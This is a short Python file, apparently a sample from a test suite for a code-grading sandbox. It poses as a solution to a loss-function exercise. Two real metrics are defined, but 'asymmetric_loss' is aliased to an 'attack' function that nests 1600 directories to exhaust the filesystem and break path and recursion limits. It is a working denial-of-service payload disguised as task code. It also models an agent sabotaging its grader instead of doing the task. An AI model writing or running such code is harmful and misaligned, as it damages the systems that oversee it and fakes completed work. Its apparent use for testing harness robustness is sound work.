"""Makes folders within folders, deeper than a path may be long and a function may recurse."""
# family: flood
# exercise: 02_losses
# honest: 12
# says: too many or too large files|time ran out|used up|memory|ended|raised|got

import os

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def attack(*args):
    for _ in range(1600):
        os.mkdir("deeper")
        os.chdir("deeper")
    with open("bottom", "w") as file:
        file.write("x")
    return 0.0


asymmetric_loss = attack
